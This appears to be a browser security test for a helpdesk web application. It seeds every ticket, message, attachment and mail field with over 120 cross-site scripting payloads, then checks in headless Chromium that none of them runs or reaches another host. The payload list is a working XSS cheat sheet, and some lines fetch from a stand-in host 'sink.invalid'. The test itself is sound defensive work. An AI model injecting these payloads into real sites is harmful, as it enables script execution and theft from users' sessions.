"""S07: every string of a ticket holds every payload, and a real browser opens every screen that shows it.

Nothing runs, nothing is asked of another host, and the policy is never even tried.
"""

from __future__ import annotations

import pytest
from playwright.sync_api import sync_playwright

from frontdoor.channels.models import Outgoing, Spooled
from frontdoor.core import storage
from frontdoor.people.actors import acting
from frontdoor.tickets import verbs
from frontdoor.tickets.models import Attachment, Category, Message, Service, Tagging, Ticket
from tests import make
from tests.chromium import QUIET
from tests.desk.conftest import signed_in

pytestmark = [
    pytest.mark.browser,
    pytest.mark.django_db(transaction=True),
    pytest.mark.no_replay,  # payloads are written past the verbs, so the log cannot tell of them
]
SINK = "http://sink.invalid"
CALLS = ["alert(1)", f"fetch('{SINK}/x')", "document.title='owned'"]
SHAPES = [
    "<script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</script><script>{}</script>",
    '<img src=x onerror="{}">',
    '<svg onload="{}">',
    "<svg><script>{}</script></svg>",
    '"><svg/onload={}>',
    "' onmouseover='{}",
    '" autofocus onfocus="{}',
    "<iframe srcdoc='<script>{}</script>'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<math><mi//xlink:href='javascript:{}'>",
    '<a href="javascript:{}">click</a>',
    "[x](javascript:{})",
    "javascript:{}",
    "data:text/html,<script>{}</script>",
    "<form action=javascript:{}><button autofocus>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href=javascript:{}//>",
    "<link rel=stylesheet href=javascript:{}>",
    "<style>@import 'javascript:{}';</style>",
    "<div style='background:url(javascript:{})'>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#60;script&#62;{}&#60;/script&#62;",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% raw %}}<script>{}</script>",
    "${{{}}}",
    "\u202e<script>{}</script>",
    "<scr\u0000ipt>{}</script>",
    "<SCRIPT SRC=//sink.invalid/{}></SCRIPT>",
    '<div data-module="//sink.invalid/{}" hx-get="//sink.invalid/" hx-trigger=load>',
]
PAYLOADS = [shape.format(call) for shape in SHAPES for call in CALLS]


def hostile() -> Ticket:
    """A ticket whose every string is all payloads, as far as its column holds them."""
    every = " ".join(PAYLOADS).replace("\0", "")
    person = make.person(every[:120], email="evil@example.org")
    for name, length in {"department": 80, "title": 80, "place": 80, "phone": 40}.items():
        setattr(person, name, every[-length:])
    person.save()
    ticket = make.ticket("x", requester=person, body="x")
    Ticket.objects.filter(pk=ticket.pk).update(
        subject=every[300:555], place=every[:80], resolution=every, priority_reason=every[200:455],
        hold_reason=every[400:655], service=Service.objects.create(name=every[500:580]),
        category=Category.objects.create(name=every[600:680], slug="evil"), channel="<b>{}",
    )  # fmt: skip
    for n in range(0, len(PAYLOADS), 20):
        some = "\n\n".join(PAYLOADS[n : n + 20]).replace("\0", "")
        said = Message.objects.create(
            ticket=ticket, origin=ticket, author=person, body=some, quoted=some, doubt=some[:255], claimant=some[:254],
            verified=False, channel="email", at=ticket.created_at, public=n % 40 == 0,
        )  # fmt: skip
        for payload in PAYLOADS[n : n + 20]:
            name = payload.replace("\0", "")
            Attachment.objects.create(
                message=said, sha256="0" * 64, name=name[:255], type=name[:100], size=1
            )
    for payload in PAYLOADS[:20]:
        Tagging.objects.create(ticket=ticket, name=payload.replace("\0", "")[:40])
    return ticket


def hostile_mail(ticket: Ticket) -> Spooled:
    """Mails in and out whose every string is payloads."""
    every = " ".join(PAYLOADS).replace("\0", "")
    blob = storage.keep(f"From: {every[:200]}\nSubject: {every[:200]}\n\n{every}".encode())
    mail = {
        "source": "smtp", "sender": every[:320], "author": every[:320], "subject": every[300:555], "size": blob.size,
        "reason": every[600:855], "sha256": blob.sha256, "received_at": ticket.created_at,
    }  # fmt: skip
    Spooled.objects.create(**mail, state="done", outcome="unverified", ticket=ticket)
    Outgoing.objects.create(
        key="k", kind=every[:20], ticket=ticket, email=every[:254], error=every[:255], came_back=every[255:510],
        created_at=ticket.created_at, state="failed",
    )  # fmt: skip
    return Spooled.objects.create(**mail, state="quarantined", outcome="quarantined")


def screens(ticket: Ticket) -> list[str]:
    own = f"/desk/tickets/{ticket.pk}/"
    word = "%3Cscript%3Ealert(1)%3C/script%3E%22onfocus=alert(1)%20autofocus="
    return [
        "/desk/", "/desk/lists/open/", "/desk/lists/unassigned/", f"/desk/lists/open/?q={word}",
        f"/desk/search/?q={word}", "/desk/search/?q=alert", own, f"{own}preview/", f"{own}#composer",
        f"/desk/merge/?ticket={ticket.pk}&ticket={ticket.pk - 1}", "/desk/log/", f"/desk/log/read/?line={word}",
        "/desk/quarantine/", f"/desk/quarantine/{Spooled.objects.get(ticket=None).pk}/",
        "/desk/unsent/", f"{own}mails/",
        "/no/such/page", f"/login/?next={word}",
    ]  # fmt: skip


def test_nothing_that_people_write_ever_runs(live_server, ada, monkeypatch):
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "1")
    first = make.ticket("Something else")
    ticket = hostile()
    verbs.link(ticket, other=first, by=acting(ada))
    hostile_mail(ticket)
    session = signed_in(ada).cookies["session"].value
    faults: list[str] = []
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=QUIET)
        context = browser.new_context(base_url=live_server.url)
        context.add_cookies([{"name": "session", "value": session, "url": live_server.url}])
        page = context.new_page()
        page.on("dialog", lambda dialog: (faults.append(f"dialog on {page.url}"), dialog.dismiss()))
        page.on(
            "request",
            lambda asked: asked.url.startswith(live_server.url) or faults.append(asked.url),
        )
        page.on(
            "console",
            lambda said: "Content Security Policy" in said.text and faults.append(said.text),
        )
        for address in screens(ticket):
            page.goto(address, wait_until="networkidle")
            page.mouse.move(300, 300)
            assert page.title() != "owned", address
        browser.close()
    assert faults == []
    assert len(PAYLOADS) >= 120
